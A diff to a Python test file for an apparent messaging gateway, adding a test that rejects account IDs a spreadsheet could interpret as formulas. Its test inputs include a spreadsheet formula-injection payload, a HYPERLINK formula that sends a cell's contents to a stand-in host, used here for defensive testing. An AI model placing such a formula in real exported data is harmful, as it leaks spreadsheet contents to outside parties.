@@ -253,6 +253,23 @@ def test_an_answer_may_name_the_account_that_gave_it(
     assert isinstance(event, ReverificationAnswered) and event.account_id == "vk-1"
 
 
+@pytest.mark.parametrize(
+    "account_id", ['=HYPERLINK("http://x/?"&A2,"open")', "+1-555", "@sum", "-2+3", "vk 1", "vk\t1"]
+)
+def test_an_account_id_a_spreadsheet_could_take_for_a_formula_is_refused(
+    vk: Gateway, inbound: RecordingInboundEvents, account_id: str
+) -> None:
+    answer = {
+        **DELIVERED,
+        "type": "prompt.answered",
+        "answer": "confirmed",
+        "account_id": account_id,
+    }
+
+    assert vk.post("/v1/networks/vk/events", answer).status_code == 400
+    assert inbound.events == []
+
+
 def test_unsigned_events_are_unauthenticated(client: Client) -> None:
     response = client.post("/v1/sms/events", json=DELIVERED)
     assert response.status_code == 401 and response.json()["code"] == "UNAUTHENTICATED"
